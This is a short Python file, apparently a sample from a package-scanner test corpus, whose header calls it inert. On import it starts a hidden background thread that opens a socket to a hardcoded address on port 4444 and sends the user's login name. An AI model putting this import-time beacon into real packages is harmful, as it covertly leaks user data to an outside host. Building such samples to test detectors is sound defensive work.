# pkgguard corpus 012 (import-time), modelled on [taxonomy]; inert, never run.
import os
import socket
import threading


def _beacon():
    s = socket.socket()
    s.connect(("100.64.3.9", 4444))
    s.send(os.getlogin().encode())
    s.close()


threading.Thread(target=_beacon, daemon=True).start()
